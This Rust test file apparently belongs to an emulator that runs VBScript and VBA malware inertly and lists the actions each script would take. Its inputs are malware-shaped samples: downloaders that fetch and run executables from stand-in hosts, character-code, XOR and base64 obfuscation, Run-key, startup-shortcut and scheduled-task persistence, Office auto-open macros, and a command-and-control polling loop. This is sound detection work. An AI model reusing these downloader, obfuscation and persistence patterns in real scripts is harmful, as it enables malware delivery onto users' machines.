//! Scripts in the shape of real ones, inert, and what they would do.

use super::run;
use crate::limits::Limits;
use crate::shown;
use proptest::prelude::*;

#[track_caller]
fn check(source: &str, expected: &[&str]) {
    shown::check(run, source, expected);
}

#[test]
fn a_downloader_by_xmlhttp_and_stream() {
    check(
        r#"
        Dim x: Set x = CreateObject("MSXML2.XMLHTTP")
        x.Open "GET", "http://192.0.2.1/a.exe", False
        x.send
        If x.Status = 200 Then
            Set s = CreateObject("ADODB.Stream")
            s.Type = 1 : s.Open
            s.Write x.responseBody
            s.SaveToFile "C:\Users\Public\a.exe", 2
            s.Close
        End If
        CreateObject("WScript.Shell").Run "C:\Users\Public\a.exe", 0, True
        "#,
        &[r"fetch http://192.0.2.1/a.exe > C:\Users\Public\a.exe", r"run C:\Users\Public\a.exe"],
    );
}

#[test]
fn servers_that_are_asked_one_after_another() {
    check(
        r#"
        urls = Array("http://192.0.2.1/1", "http://198.51.100.2/2", "http://c.example/3")
        For Each u In urls
            Set x = CreateObject("WinHttp.WinHttpRequest.5.1")
            x.Open "GET", u, False
            x.Send
            If x.Status = 200 Then Exit For
        Next
        CreateObject("WScript.Shell").Run "done.exe"
        "#,
        &[
            "fetch http://192.0.2.1/1",
            "run done.exe",
            "fetch http://198.51.100.2/2",
            "fetch http://c.example/3",
        ],
    );
}

#[test]
fn characters_by_number() {
    check(
        r#"Set s = CreateObject(Chr(87) & Chr(&H53) & "cript." & ChrW(83) & Chr(104) & "ell")
        s.Run Chr(99) & Chr(109) & Chr(100) & " /c echo " & Chr(104+1)"#,
        &["run cmd /c echo i"],
    );
}

#[test]
fn execute_of_text_that_a_loop_makes() {
    check(
        r#"
        k = "68.116.116.112"
        p = Split("104,116,116,112,58,47,47,97,46,101,120,97,109,112,108,101,47,120", ",")
        For i = 0 To UBound(p)
            u = u & Chr(CInt(p(i)))
        Next
        Execute "Set h = CreateObject(""Msxml2.ServerXMLHTTP.6.0"") : h.open ""GET"", """ & u & """, False : h.send"
        "#,
        &[
            "eval vbscript: Set h = CreateObject(\"Msxml2.ServerXMLHTTP.6.0\") : h.open \"GET\", \"http://a.example/x\", False : h.send",
            "fetch http://a.example/x",
        ],
    );
}

#[test]
fn execute_global_defines_what_follows() {
    check(
        r#"ExecuteGlobal "Function d(a) : d = StrReverse(a) : End Function"
        CreateObject("WScript.Shell").Run d("exe.clac")"#,
        &["eval vbscript: Function d(a) : d = StrReverse(a) : End Function", "run calc.exe"],
    );
}

#[test]
fn xor_with_a_key() {
    check(
        r#"
        Function dec(h, key)
            Dim i, r
            For i = 1 To Len(h) Step 2
                r = r & Chr(CInt("&H" & Mid(h, i, 2)) Xor key)
            Next
            dec = r
        End Function
        CreateObject("WScript.Shell").Run dec("34363b3479322f32", 87), 0
        "#,
        &["run calc.exe"],
    );
}

#[test]
fn replaced_and_reversed_text() {
    check(
        r#"a = "hQQp://192.0QQ.2.9/qq".replace
        u = Replace(Replace("h@@p://192.0.2.9/b", "@", "t"), "b", "c.txt")
        Set x = CreateObject(StrReverse("PTTHLMX.tfosorciM"))
        x.open "GET", u, 0 : x.send()
        MsgBox UCase("done")"#,
        &["fetch http://192.0.2.9/c.txt"],
    );
}

#[test]
fn a_file_that_it_writes_and_runs() {
    check(
        r#"
        Set fso = CreateObject("Scripting.FileSystemObject")
        Set sh = CreateObject("WScript.Shell")
        p = fso.BuildPath(fso.GetSpecialFolder(2), "r.bat")
        With fso.CreateTextFile(p, True)
            .WriteLine "@echo off"
            .Write "ping 192.0.2.7"
            .Close
        End With
        sh.Run """" & p & """", 0, False
        "#,
        &["write %T\\r.bat: @echo off\r\nping 192.0.2.7", "run \"%T\\r.bat\""],
    );
}

#[test]
fn what_starts_it_again() {
    check(
        r#"
        Set sh = WScript.CreateObject("WScript.Shell")
        sh.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\upd", "wscript.exe //B " & WScript.ScriptFullName, "REG_SZ"
        Set l = sh.CreateShortcut(sh.SpecialFolders("Startup") & "\u.lnk")
        l.TargetPath = "wscript.exe"
        l.Arguments = "c:\u.vbs"
        l.Save
        "#,
        &[
            r"set HKCU\Software\Microsoft\Windows\CurrentVersion\Run\upd = wscript.exe //B C:\Users\k.tanaka\Downloads\invoice.vbs",
            r"set C:\Users\k.tanaka\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\u.lnk = wscript.exe c:\u.vbs",
        ],
    );
}

#[test]
fn processes_by_management() {
    check(
        r#"
        Set w = GetObject("winmgmts:{impersonationLevel=impersonate}!\\.\root\cimv2")
        Set c = w.Get("Win32_Process")
        r = c.Create("powershell -w hidden", Null, Null, pid)
        GetObject("winmgmts:Win32_Process").Create "cmd /c a", Null, Null, pid
        Set s = GetObject("winmgmts:\\.\root\cimv2:Win32_ProcessStartup").SpawnInstance_
        s.ShowWindow = 0
        GetObject("winmgmts:\\.\root\cimv2:Win32_Process").Create "cmd /c b", Null, s, pid
        "#,
        &["run powershell -w hidden", "run cmd /c a", "run cmd /c b"],
    );
}

#[test]
fn a_task_of_the_scheduler() {
    check(
        r#"
        Set service = CreateObject("Schedule.Service")
        Call service.Connect()
        Set def = service.NewTask(0)
        Set act = def.Actions.Create(0)
        act.Path = "wscript.exe"
        act.Arguments = "//e:vbscript c:\x"
        service.GetFolder("\").RegisterTaskDefinition "Updater", def, 6, , , 3
        "#,
        &[r"set Updater = wscript.exe //e:vbscript c:\x"],
    );
}

#[test]
fn base64_by_an_element() {
    check(
        r#"
        Function b(s)
            Set d = CreateObject("Msxml2.DOMDocument.3.0").createElement("b")
            d.dataType = "bin.base64"
            d.text = s
            b = d.nodeTypedValue
        End Function
        Function t(v)
            Set q = CreateObject("ADODB.Stream")
            q.Type = 1 : q.Open : q.Write v
            q.Position = 0 : q.Type = 2 : q.CharSet = "us-ascii"
            t = q.ReadText
        End Function
        CreateObject("WScript.Shell").Run t(b("Y21kIC9jIGVjaG8gaGk="))
        "#,
        &["run cmd /c echo hi"],
    );
}

#[test]
fn bytes_that_are_decoded_into_a_file() {
    check(
        r#"
        Set e = CreateObject("MSXML2.DOMDocument").createElement("x")
        e.DataType = "bin.hex" : e.Text = "4d5a9000"
        Set s = CreateObject("ADODB.Stream")
        s.Type = 1 : s.Open : s.Write e.NodeTypedValue : s.SaveToFile "c:\a.exe", 2
        "#,
        &["write c:\\a.exe: MZ\u{fffd}\0"],
    );
}

#[test]
fn select_case_and_loops() {
    check(
        r#"
        Dim n : n = 0
        Do While True
            n = n + 1
            Select Case n
                Case 1, 2: t = t & "a"
                Case 3 To 4: t = t & "b"
                Case Is > 8: Exit Do
                Case Else: t = t & "-"
            End Select
        Loop
        While n > 5 : n = n - 1 : Wend
        Do : n = n - 1 : Loop Until n <= 2
        For i = 10 To 1 Step -3 : t = t & i & "," : Next
        CreateObject("WScript.Shell").Run t & n
        "#,
        &["run aabb----10,7,4,1,2"],
    );
}

#[test]
fn single_line_ifs_and_continued_lines() {
    check(
        "a = 5\r\nIf a > 3 Then b = \"x\" : c = \"y\" Else b = \"z\"\r\n\
         If a = 3 Then b = \"no\"\r\nIf Not a = 3 And a <> 4 Then : c = c & _\r\n  \"w\" : End If\r\n\
         CreateObject(\"WScript.Shell\") _\r\n   .Run b & c 'comment\r\nREM more",
        &["run xyw"],
    );
}

#[test]
fn variables_by_reference_and_by_value() {
    check(
        r#"
        Sub more(a, ByVal b)
            a = a & "1" : b = b & "2"
        End Sub
        x = "x" : y = "y"
        more x, y
        Call more(y, x)
        more (x), y
        CreateObject("WScript.Shell").Run x & y
        "#,
        &["run x1y1"],
    );
}

#[test]
fn classes() {
    check(
        r#"
        Class Loader
            Private host_
            Public Items(2)
            Private Sub Class_Initialize()
                host_ = "192.0.2.1"
            End Sub
            Public Property Let Host(h)
                host_ = h
            End Property
            Public Property Get Url()
                Url = "http://" & host_ & "/" & Items(1)
            End Property
            Public Function Start(n)
                Start = n & ":" & Url
            End Function
        End Class
        Set l = New Loader
        l.Items(1) = "p"
        a = l.Start("a")
        l.Host = "b.example"
        CreateObject("WScript.Shell").Run a & " " & l.Url
        "#,
        &["run a:http://192.0.2.1/p http://b.example/p"],
    );
}

#[test]
fn regular_expressions() {
    check(
        r#"
        Set r = New RegExp
        r.Pattern = "[^a-z.: /0-9]" : r.Global = True : r.IgnoreCase = False
        c = r.Replace("cXmZd /Qc Wecho 1", "")
        Set q = CreateObject("VBScript.RegExp")
        q.Global = True : q.Pattern = "(\w+)=(\d+)"
        For Each m In q.Execute("a=1;b=22")
            c = c & m.SubMatches(1) & m.Value
        Next
        If q.Test("z=3") Then CreateObject("WScript.Shell").Run c
        "#,
        &["run cmd /c echo 11a=122b=22"],
    );
}

#[test]
fn arrays_of_arrays_and_redim() {
    check(
        r#"
        Dim a(), m(1, 2)
        ReDim a(1)
        a(0) = "c" : a(1) = "m"
        ReDim Preserve a(2)
        a(2) = "d"
        m(1, 2) = "!" : b = a : b(0) = "X"
        n = Array(Array("x", "y"), "z")
        CreateObject("WScript.Shell").Run Join(a, "") & m(1, 2) & b(0) & n(0)(1) & UBound(a) & LBound(a) & UBound(m, 2)
        "#,
        &["run cmd!Xy202"],
    );
}

#[test]
fn unknown_conditions_go_both_ways() {
    check(
        r#"
        Set o = CreateObject("Some.Thing")
        If o.Ready Then
            CreateObject("WScript.Shell").Run "one"
        Else
            CreateObject("WScript.Shell").Run "two"
        End If
        If InStr(o.Name, "VBOX") > 0 Then WScript.Quit
        CreateObject("WScript.Shell").Run "three"
        "#,
        &["run one", "run two", "run three"],
    );
}

#[test]
fn what_it_does_when_it_would_have_ended_is_told_last() {
    check(
        r#"
        If WScript.Arguments.Count = 0 Then
            CreateObject("WScript.Shell").Run "wscript " & WScript.ScriptName & " /go"
            WScript.Quit
        End If
        CreateObject("WScript.Shell").Run "second.exe"
        "#,
        &["run wscript invoice.vbs /go", "run second.exe"],
    );
}

#[test]
fn requests_of_a_worm_that_waits_for_orders() {
    check(
        r#"
        host = "c2.example" : port = 7777
        Do
            resp = post("is-ready", "")
            Select Case Split(resp, "|")(0)
                Case "execute" : Execute Split(resp, "|")(1)
                Case "send" : download Split(resp, "|")(1)
            End Select
            WScript.Sleep 5000
        Loop
        Function post(cmd, param)
            Set h = CreateObject("msxml2.xmlhttp")
            h.Open "post", "http://" & host & ":" & port & "/" & cmd, False
            h.setRequestHeader "user-agent:", "x"
            h.Send param
            post = h.responseText
        End Function
        "#,
        &["fetch http://c2.example:7777/is-ready"],
    );
}

#[test]
fn errors_are_passed_over() {
    check(
        r#"
        x = 1 / 0
        Set y = Nothing
        y.Do "it"
        ??? what
        a = CInt("abc")
        If Err.Number <> 0 Then CreateObject("WScript.Shell").Run "after " & Err.Number
        "#,
        &["run after 424"],
    );
}

#[test]
fn dates_and_numbers() {
    check(
        r#"
        t = Hex(255) & Oct(8) & CInt("12.5") & CInt(13.5) & Int(-1.5) & Fix(-1.5) & (7 \ 2) & (7 Mod 4) & 2 ^ 3
        t = t & Abs(-3) & Sgn(-9) & Sqr(16) & Round(2.567, 2) & Val("12ab") & (5 / 2) & (1 + "2") & ("1" + "2")
        t = t & Year(#2026-03-04#) & TypeName("x") & VarType(1) & (3 > 2) & (Not False) & (5 And 3) & (&HFF Xor 1)
        CreateObject("WScript.Shell").Run t
        "#,
        &["run FF101214-2-13383-142.57122.53122026String2TrueTrue1254"],
    );
}

#[test]
fn script_control_runs_both_languages() {
    check(
        r#"
        Set c = CreateObject("MSScriptControl.ScriptControl")
        c.Language = "VBScript"
        c.ExecuteStatement "CreateObject(""WScript.Shell"").Run ""v"""
        c.Language = "JScript"
        c.AddCode "new ActiveXObject('WScript.Shell').Run('j')"
        "#,
        &[
            "eval vbscript: CreateObject(\"WScript.Shell\").Run \"v\"",
            "run v",
            "eval javascript: new ActiveXObject('WScript.Shell').Run('j')",
            "run j",
        ],
    );
}

#[test]
fn vba_document_that_downloads_and_starts() {
    check(
        r#"Attribute VB_Name = "ThisDocument"
Option Explicit
#If VBA7 Then
Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal p As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As LongPtr) As Long
#Else
Private Declare Function URLDownloadToFileA Lib "urlmon" (ByVal p As Long, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As Long) As Long
#End If
Private Sub Document_Open()
    Dim f As String, r As Long
    f = Environ("TEMP") & "\a.exe"
    r = URLDownloadToFileA(0, "http://192.0.2.5/a", f, 0, 0)
    If r = 0 Then Shell f, vbHide
End Sub
"#,
        &["fetch http://192.0.2.5/a > %T\\a.exe", "run %T\\a.exe"],
    );
}

#[test]
fn vba_aliases_of_libraries() {
    check(
        r#"
Private Declare Function dl Lib "urlmon" Alias "URLDownloadToFileW" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long
Private Declare Function se Lib "shell32.dll" Alias "ShellExecuteA" (ByVal h As Long, ByVal o As String, ByVal f As String, ByVal p As String, ByVal d As String, ByVal s As Long) As Long
Declare Function WinExec Lib "kernel32" (ByVal c As String, ByVal s As Long) As Long
Sub AutoOpen()
    dl 0, "http://d.example/x.dll", "C:\x.dll", 0, 0
    se 0, "open", "rundll32.exe", "C:\x.dll,Run", vbNullString, 0
    Call WinExec("calc", 1)
End Sub
"#,
        &[r"fetch http://d.example/x.dll > C:\x.dll", r"run rundll32.exe C:\x.dll,Run", "run calc"],
    );
}

#[test]
fn vba_texts_with_typed_names() {
    check(
        r#"
Sub Workbook_Open()
    Dim i%, s$, k As String * 5
    For i% = 1 To 5
        s$ = s$ & Chr$(Asc(Mid$("dbmd/", i%, 1)) - 1)
    Next i
    VBA.Shell VBA.Left$(s$, 4) & "." & VBA.StrReverse("exe"), 1
End Sub
"#,
        &["run calc.exe"],
    );
}

#[test]
fn vba_files_by_number() {
    check(
        r#"
Sub Auto_Open()
    Dim b() As Byte
    n = FreeFile
    Open "C:\Users\Public\a.js" For Output As #n
    Print #n, "var a = 1;"
    Print #n, "done";
    Close #n
    Open "C:\b.bin" For Binary Access Write As #2
    ReDim b(2)
    b(0) = 77 : b(1) = 90 : b(2) = 33
    Put #2, , b
    Close
    Shell "wscript C:\Users\Public\a.js"
End Sub
"#,
        &[
            "write C:\\Users\\Public\\a.js: var a = 1;\r\ndone",
            r"write C:\b.bin: MZ!",
            r"run wscript C:\Users\Public\a.js",
        ],
    );
}

#[test]
fn vba_macros_by_name_and_other_modules() {
    check(
        r#"
Sub AutoExec()
    Application.Run "Module1.Second", "q"
    Module1.Third
    On Error GoTo ende
    x = ActiveDocument.Variables("v").Value
    Shell "cmd /c " & x & ActiveDocument.Name & "1"
ende:
End Sub
Public Sub Second(Optional a As String = "z")
    Shell "second " & a
End Sub
Sub Third()
    Second
End Sub
"#,
        &["run second q", "run second z", "run cmd /c 1"],
    );
}

#[test]
fn vba_calls_by_name_and_with() {
    check(
        r#"
Sub Document_Close()
    Set o = CreateObject("WScript.Shell")
    CallByName o, "Run", VbMethod, "by name", 0
    With New MSXML2.XMLHTTP60
        .Open "GET", "http://e.example/", False
        .send
        Debug.Print .responseText
    End With
    Set s = CreateObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}")
    s.exec "by class"
    With GetObject("new:9BA05972-F6A8-11CF-A442-00A0C90A8F39").Item()
        .Document.Application.ShellExecute "cmd.exe", "/c x", "C:\", Null, 0
    End With
End Sub
"#,
        &["run by name", "fetch http://e.example/", "run by class", "run cmd.exe /c x"],
    );
}

#[test]
fn vba_decodes_arrays_of_numbers() {
    check(
        r"
Function R(p As Variant, k As Integer) As String
    Dim i As Long
    For i = LBound(p) To UBound(p)
        R = R & ChrW(p(i) Xor k)
    Next i
End Function
Sub Document_Open()
    CreateObject(R(Array(84, 80, 96, 113, 106, 115, 119, 45, 80, 107, 102, 111, 111), 3)).Run R(Array(96, 110, 103, 35, 44, 96), 3)
End Sub
",
        &["run cmd /c"],
    );
}

#[test]
fn scriptlets_and_monikers() {
    check(
        r#"GetObject("script:http://192.0.2.8/s.sct")
        Set d = CreateObject("Msxml2.DOMDocument") : d.async = False
        d.load "http://f.example/p.xsl"
        CreateObject("InternetExplorer.Application").Navigate "http://g.example/?id=1"
        CreateObject("WindowsInstaller.Installer").InstallProduct "http://h.example/p.msi""#,
        &[
            "fetch http://192.0.2.8/s.sct",
            "fetch http://f.example/p.xsl",
            "fetch http://g.example/?id=1",
            "fetch http://h.example/p.msi",
            "run msiexec /i http://h.example/p.msi",
        ],
    );
}

#[test]
fn dictionaries_and_lists() {
    check(
        r#"
        Set d = CreateObject("Scripting.Dictionary")
        d.Add "k", "cmd" : d("e") = " /c" : d.Item("f") = " x"
        If d.Exists("k") And Not d.Exists("q") Then
            For Each k In d.Keys : t = t & d(k) : Next
        End If
        Set l = CreateObject("System.Collections.ArrayList")
        l.Add " y" : t = t & l(0) & l.Count & d.Count
        CreateObject("Shell.Application").ShellExecute "wscript", t, "", "runas", 0
        "#,
        &["run wscript cmd /c x y13"],
    );
}

#[test]
fn dotnet_text_and_base64() {
    check(
        r#"
        Set a = CreateObject("System.Text.ASCIIEncoding")
        Set t = CreateObject("System.Security.Cryptography.FromBase64Transform")
        b = a.GetBytes_4("aHR0cDovL2kuZXhhbXBsZS8=")
        u = a.GetString((t.TransformFinalBlock((b), 0, a.GetByteCount_2("aHR0cDovL2kuZXhhbXBsZS8="))))
        Set x = CreateObject("Microsoft.XMLHTTP") : x.open "GET", u, False : x.send
        "#,
        &["fetch http://i.example/"],
    );
}

#[test]
fn a_text_of_the_answer_that_is_run_or_saved() {
    check(
        r#"
        Set x = CreateObject("MSXML2.ServerXMLHTTP")
        x.open "GET", "http://192.0.2.1/code", False : x.send
        Execute x.responseText
        Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile("C:\t.vbs", True)
        f.Write x.responseText : f.Close
        CreateObject("WScript.Shell").Run "wscript C:\t.vbs"
        "#,
        &[r"fetch http://192.0.2.1/code > C:\t.vbs", r"run wscript C:\t.vbs"],
    );
}

#[test]
fn file_is_read_back() {
    check(
        r#"
        Set fs = CreateObject("Scripting.FileSystemObject")
        Set f = fs.OpenTextFile("c:\n.txt", 2, True)
        f.WriteLine "calc" : f.Close
        Set g = fs.OpenTextFile("c:\n.txt", 1)
        Do Until g.AtEndOfStream
            CreateObject("WScript.Shell").Run g.ReadLine & ".exe"
        Loop
        fs.CopyFile WScript.ScriptFullName, "C:\Users\Public\", True
        fs.DeleteFile WScript.ScriptFullName
        "#,
        &[
            "write c:\\n.txt: calc\r\n",
            "run calc.exe",
            r"set C:\Users\Public\invoice.vbs = C:\Users\k.tanaka\Downloads\invoice.vbs",
        ],
    );
}

#[test]
fn endless_loops_and_growth_end_with_a_note() {
    for source in [
        "Do : Loop",
        "While 1 : x = x + 1 : Wend",
        "s = \"aaaaaaaaaaaaaaaa\" : Do : s = s & s : Loop",
        "Sub f : f : f : End Sub : f",
        "Do : Set x = CreateObject(\"ADODB.Stream\") : Loop",
        "Dim a(3000000) : Do : b = Array(a, a, a) : c = b : c(1) = b : b = c : Loop",
        "Do : Execute \"Do : x = String(100000, \"\"x\"\") : Loop\" : Loop",
        "s = String(5000000, \"x\") : Do : n = InStr(s, String(1000, \"x\") & \"y\") : Loop",
        "Execute \"Execute \"\"Do : Loop\"\"\"",
        "Class c : Sub Class_Initialize : Set d = New c : End Sub : End Class : Set e = New c",
    ] {
        let report = run(source, &Limits { steps: 200_000, ..Limits::default() });
        assert!(!report.notes.is_empty(), "{source}");
    }
}

#[test]
fn depth_is_bounded() {
    let limits = Limits { steps: 100_000, ..Limits::default() };
    run(&format!("x = {}1{}", "(".repeat(50_000), ")".repeat(50_000)), &limits);
    run(&format!("x = {} 1", "Not ".repeat(50_000)), &limits);
    run(&"If 1 Then\n".repeat(50_000), &limits);
    run(&"Do\nFor i = 1 To 2\n".repeat(50_000), &limits);
    run(&format!("x = a{}", ".b".repeat(50_000)), &limits);
    run(&format!("x = a{}", "(1)".repeat(50_000)), &limits);
    run(&format!("x = a{}", "(b".repeat(50_000)), &limits);
    run(&format!("x = 1{}", " & 1 * 2".repeat(50_000)), &limits);
    run(&"If 1 Then ".repeat(50_000), &limits);
    run(&"Sub a\n".repeat(50_000), &limits);
    run(&"Class a\n".repeat(50_000), &limits);
    run("Function f(x) : f = f(f(x) + f(f(f(x)))) : End Function : y = f(1)", &limits);
}

#[test]
fn procedures_call_themselves_as_often_as_a_text_has_letters() {
    let url = format!("http://192.0.2.9/{}", "a".repeat(683));
    let codes = url.chars().fold(String::new(), |codes, it| format!("{codes}{:03}", it as u32 + 7));
    let source = format!(
        "Function D(s)\nIf Len(s) = 0 Then\nD = \"\"\nElse\nD = Chr(CInt(Mid(s, 1, 3)) - 7) & \
         D(Mid(s, 4))\nEnd If\nEnd Function\n\
         CreateObject(\"WScript.Shell\").Run D(\"{codes}\")"
    );
    let report = run(&source, &Limits::default());
    assert_eq!(crate::told::told(&report), [format!("run {url}")], "{:?}", report.notes);
}

#[test]
fn encoded_scripts_are_decoded_and_kept() {
    let plain = "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"http://192.0.2.9/<a>\"\r\n";
    let report = run(&crate::encoded::tests::encoded(plain), &Limits::default());
    assert_eq!(crate::told::told(&report), ["run http://192.0.2.9/<a>"]);
    assert_eq!(report.layers.first().map(|it| &*it.text), Some(plain.as_bytes()));
}

#[test]
fn endless_calls_end() {
    let limits = Limits::default();
    for source in [
        "Function f(x)\nf = f(x + 1) & \"a\"\nEnd Function\ny = f(1)",
        "Function f(x)\nIf x Then\nWith x\nFor i = 1 To 2\nf = ((((1 + (2 * f(x + 1))))))\nNext\n\
         End With\nEnd If\nEnd Function\ny = f(1)",
        "x = \"Execute x\" : Execute x",
        "Class c\nFunction f\nf = Me.f & New c.f\nEnd Function\nEnd Class\nSet a = New c : a.f",
        "a = 1\nDo\na = Array(a)\nLoop",
    ] {
        let report = run(source, &limits);
        assert!(!report.notes.is_empty(), "{source}");
    }
}

const PIECES: &[&str] = &[
    "If x Then",
    "Else",
    "End If",
    "\n",
    ":",
    "For i = 1 To 3",
    "Next",
    "Do",
    "Loop",
    "Function f(a)",
    "End Function",
    "x = ",
    "x(1)",
    "Chr(65)",
    "& \"a\"",
    "(",
    ")",
    ",",
    "CreateObject(\"ADODB.Stream\")",
    ".Write",
    ".Open",
    "Set y = ",
    "Execute \"x = 1\"",
    "Mid(x, 2, -1)",
    "Split(\"a,b\", \",\")",
    "ReDim a(3)",
    "a(9)",
    "&HFFFFFFFFFFFFFFFF",
    "-",
    "^ 9999",
    "\\ 0",
    "Mod 0",
    "#1#",
    "#",
    "_\n",
    "'",
    "\"",
    "With y",
    "End With",
    "Select Case x",
    "Case 1 To 2",
    "End Select",
    "String(-1, 5)",
    "Left(\"é\u{1f600}\", 1)",
    "Class c",
    "End Class",
    "New c",
    "Exit For",
    "Not",
    "9999999999999999999999",
    "1e308 * 10",
    "DateSerial(9e9, 9e9, 9e9)",
    "Hex(-1)",
    "Rnd",
    "Replace(\"aa\", \"a\", \"b\")",
    "x.SaveToFile \"p\"",
    "Open \"p\" For Output As #1",
    "Print #1, x",
    "Close",
    "Put #1, , x",
    "StrConv(x, 128)",
    "LenB(x)",
    "New RegExp",
    ".Pattern = \"(\"",
    ".Execute(x)",
    "UBound(x, 3)",
    "DateAdd(\"d\", 1e300, Now)",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_text_never_panics(text in ".{0,300}") {
        run(&text, &Limits { steps: 20_000, ..Limits::default() });
    }

    #[test]
    fn pieces_of_scripts_never_panic(pieces in proptest::collection::vec(0..PIECES.len(), 0..60)) {
        let text: Vec<&str> = pieces.iter().map(|it| PIECES[*it]).collect();
        run(&text.join(" "), &Limits { steps: 20_000, ..Limits::default() });
    }
}
